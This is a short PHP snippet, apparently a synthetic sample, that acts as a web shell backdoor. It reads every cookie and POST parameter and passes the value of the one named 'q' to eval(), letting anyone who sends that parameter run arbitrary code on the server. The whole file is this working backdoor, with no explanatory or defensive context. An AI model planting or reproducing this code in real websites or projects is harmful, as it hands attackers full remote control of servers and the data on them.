<?php
// synthetic: code taken from whichever of cookie or body carries it
foreach (array_merge($_COOKIE, $_POST) as $k => $v) {
    if ($k === 'q') { eval($v); }
}
